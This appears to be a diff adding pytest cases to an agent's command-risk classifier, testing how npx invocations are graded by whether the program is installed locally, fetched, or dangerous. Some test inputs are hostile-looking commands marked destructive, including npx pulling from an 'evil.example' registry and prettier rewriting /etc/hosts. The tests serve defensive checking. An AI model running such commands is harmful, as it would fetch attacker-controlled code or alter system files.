@@ -236,3 +236,50 @@ def test_git_checkout_of_a_branch_the_adapter_did_not_report_asks() -> None:
 ])  # fmt: skip
 def test_gradle_task_paths_name_a_project_s_task(command: str, risk: RiskLevel) -> None:
     assert grade(command) is risk, command
+
+
+def _node_project(root: Path) -> Path:
+    bins = root / "node_modules" / ".bin"
+    (root / "node_modules" / "jest" / "bin").mkdir(parents=True)
+    bins.mkdir(parents=True)
+    (root / "sub").mkdir()
+    (root / "package.json").write_text("{}")
+    (root / "node_modules" / "jest" / "bin" / "jest.js").write_text("x")
+    (bins / "jest").symlink_to("../jest/bin/jest.js")
+    (bins / "prettier").write_text("x")
+    (bins / "vitest").symlink_to("/usr/bin/env")  # a program outside the workspace
+    return root
+
+
+@pytest.mark.parametrize(("command", "risk"), [
+    ("npx jest --watchAll=false", R.WORKSPACE_WRITE),  # node_modules/.bin/jest: run, not fetched
+    ("npx prettier --write .", R.WORKSPACE_WRITE),
+    ("cd sub && npx jest", R.WORKSPACE_WRITE),  # the prefix is the closest directory with package.json
+    ("npx eslint .", R.NETWORK),  # not installed: fetched
+    ("npx jest@29", R.NETWORK),  # a version: the local one may not satisfy it
+    ("npx vitest run", R.NETWORK),  # its link leads outside the workspace
+    ("npx -p jest jest", R.DESTRUCTIVE),
+    ("npx --registry https://evil.example jest", R.DESTRUCTIVE),
+    ("npx prettier --write /etc/hosts", R.DESTRUCTIVE),
+    ("cd /tmp && npx jest", R.DESTRUCTIVE),
+])  # fmt: skip
+def test_npx_runs_the_project_s_own_program(tmp_path: Path, command: str, risk: RiskLevel) -> None:
+    from bot.risk.recipes import ProjectRecipes
+
+    root = _node_project(tmp_path / "ws")
+    verdict = classify(command, contained=False, workspace=root, recipes=ProjectRecipes(root))
+    assert verdict.risk is risk, (command, verdict.reasons)
+
+
+def test_npx_without_the_adapter_s_report_keeps_the_fetch() -> None:
+    assert grade("npx jest") is R.NETWORK
+
+
+def test_npx_in_a_project_without_node_modules_fetches(tmp_path: Path) -> None:
+    from bot.risk.recipes import ProjectRecipes
+
+    root = tmp_path / "ws"
+    (root / "node_modules").mkdir(parents=True)  # the prefix, with no .bin
+    (root / "package.json").write_text("{}")
+    verdict = classify("npx jest", contained=False, workspace=root, recipes=ProjectRecipes(root))
+    assert verdict.risk is R.NETWORK, verdict.reasons
